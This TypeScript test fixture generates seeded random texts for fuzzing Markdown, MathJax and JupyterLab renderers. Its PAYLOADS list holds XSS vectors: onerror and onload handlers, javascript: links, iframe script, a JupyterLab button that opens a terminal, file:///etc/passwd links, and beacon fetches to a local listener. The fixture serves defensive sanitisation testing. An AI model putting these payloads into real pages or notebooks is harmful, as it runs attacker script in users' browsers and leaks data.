// Texts as a model, a file or a tool would write them to break out of what shows them: pieces of every construct that a
// Markdown parser, a browser, MathJax or JupyterLab knows, put together at random, the same ones each time.
import { randomNumbers } from "../../engine/kernels/linear-sources.ts";

const BANG = "window.pwned=1;fetch(window.listener)";

/** What would run or load something if it were taken for what it says. */
export const PAYLOADS: readonly string[] = [
  `<img src=x onerror="${BANG}">`,
  `<script>${BANG}</script>`,
  `<svg onload="${BANG}"><a href="javascript:${BANG}">x</a></svg>`,
  `<details open ontoggle="${BANG}">`,
  "</details></pre></code></textarea></style></title>",
  `<iframe srcdoc="<script>parent.${BANG}</script>"></iframe>`,
  `<button data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">x</button>`,
  '<style>@import "http://127.0.0.1:9/style"; #main { display: none }</style>',
  '<link rel=stylesheet href="http://127.0.0.1:9/link">',
  '<div id="jupyter-config-data">{}</div>',
  '<form action="/api/terminals" method=post><input autofocus onfocus="alert(1)"></form>',
  "<!-- comment --> <!-- open",
  "<![CDATA[ x ]]><?php x ?><!DOCTYPE html>",
  "<a\nhref='javascript:alert(1)'\n>x</a\n>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "![x](http://127.0.0.1:9/beacon?secret)",
  "![x][r]\n\n[r]: http://127.0.0.1:9/beacon2",
  "![x](attachment:a.png) ![y](/api/contents) ![z](data:image/svg+xml,<svg/onload=alert(1)>)",
  "[x](javascript:alert(1)) [y](<javascript&#58;alert(1)>) [z](JaVaScRiPt:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>) [y](file:///etc/passwd) [z](/lab/api/settings) [w](vbscript:x)",
  "[https://good.example](https://evil.example 'https://good.example') <https://a.b/c?d=1&e=2#f> <javascript:alert(1)>",
  "https://evil.example/`<img src=x>` www.evil.example. ftp://evil.example me@evil.example",
  "[a\nb](https://x.example/\"onmouseover=alert(1)) [c](https://x.example/'><img src=x onerror=alert(1)>)",
  "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
  "$\\href{javascript:window.pwned=1}{x}$ $\\style{background:url(http://127.0.0.1:9/tex)}{x}$",
  "\\(\\unicode{x202e}\\class{jp-Dialog}{x}\\cssId{main}{y}\\) $$\\require{html}\\def\\a{\\a}\\a$$",
  "\\begin{align}\\href{javascript:alert(1)}{a}&=b\\end{align} @@0@@ @@9$x$@@",
  "$a_1 < b$ \\[\\frac{1}{2}\\] costs $5 and $10",
  "# jupyter config data\n\nmain\n====\n\n## <img src=x onerror=alert(1)> {#main .jp-Dialog onclick=alert(1)}",
];

const PIECES: readonly string[] = [
  ...[
    "```",
    "````",
    "~~~",
    "~~~~~",
    "``",
    "`",
    "```mermaid",
    "```math",
    "```ts\n",
    "~~~ a`b",
    "``\u0001`",
    "~~\u200b~",
    "```{=html}",
  ],
  ...[
    "\n",
    "\n",
    "\n\n",
    "\n\n",
    " ",
    "  ",
    "    ",
    "\t",
    "\\",
    "\\\n",
    "  \n",
    "\r",
    "\r\n",
    "\u2028",
    "\u0085",
    "\f",
    "\v",
  ],
  ...[
    "- ",
    "* ",
    "1. ",
    "2) ",
    "- [x] ",
    "> ",
    ">> ",
    "# ",
    "###### ",
    "---",
    "===",
    "***",
    "* * *",
    "| a | b |\n| --- | :-: |\n| ",
    " | ",
    "|",
  ],
  ...[
    "**",
    "*",
    "__",
    "_",
    "~~",
    "~",
    "[",
    "]",
    "](",
    ")",
    "![",
    "(",
    "<",
    ">",
    "</",
    "/>",
    "=",
    '"',
    "'",
    ":",
    "!",
    "#",
    "{",
    "}",
    "^",
  ],
  ...["&lt;", "&#60;", "&#x3c;img", "&amp;lt;", "&NewLine;", "&colon;", "&#0;", "&#x202e;", "&nbsp;"],
  ...[
    "\u0000",
    "\u001b[31m",
    "\u001b]8;;http://127.0.0.1:9\u0007",
    "\u202e",
    "\u2066",
    "\u200b",
    "\ufeff",
    "\u00ad",
    "\u{e0041}",
    "\ud800",
  ],
  ...["$", "$$", "\\(", "\\)", "\\[", "\\]", "\\begin{x}", "\\end{x}", "@@0@@", "@@1", "\\$", "\\\\("],
  ...[
    "word",
    "two words",
    "run_sql",
    "a",
    "1",
    "42.",
    "x = y",
    "Ünïcödé",
    "日本語",
    "שלום",
    "👩‍👩‍👧",
    "<br>",
    "<b>",
    "</b>",
    "[r]",
    "[r]: ",
  ],
  'flowchart LR\n a["<img src=x onerror=alert(1)>"] --> b\n click a href "javascript:alert(1)"',
];

export interface HostileText {
  readonly text: string;
  readonly hasPayload: boolean;
}

/** @param seed the same seed gives the same texts */
export function hostileTexts(count: number, seed: number): HostileText[] {
  const random = randomNumbers(seed);
  const pick = <T>(from: readonly T[]): T => from[Math.floor(random() * from.length)]!;
  return Array.from({ length: count }, () => {
    const length = 1 + Math.floor(random() * 14);
    const pieces = Array.from({ length }, () => (random() < 0.2 ? pick(PAYLOADS) : pick(PIECES)));
    if (random() < 0.3)
      pieces.splice(Math.floor(random() * length), 0, pick(PIECES).repeat(1 + Math.floor(random() * 5)));
    return { text: pieces.join(""), hasPayload: pieces.some((piece) => PAYLOADS.includes(piece)) };
  });
}
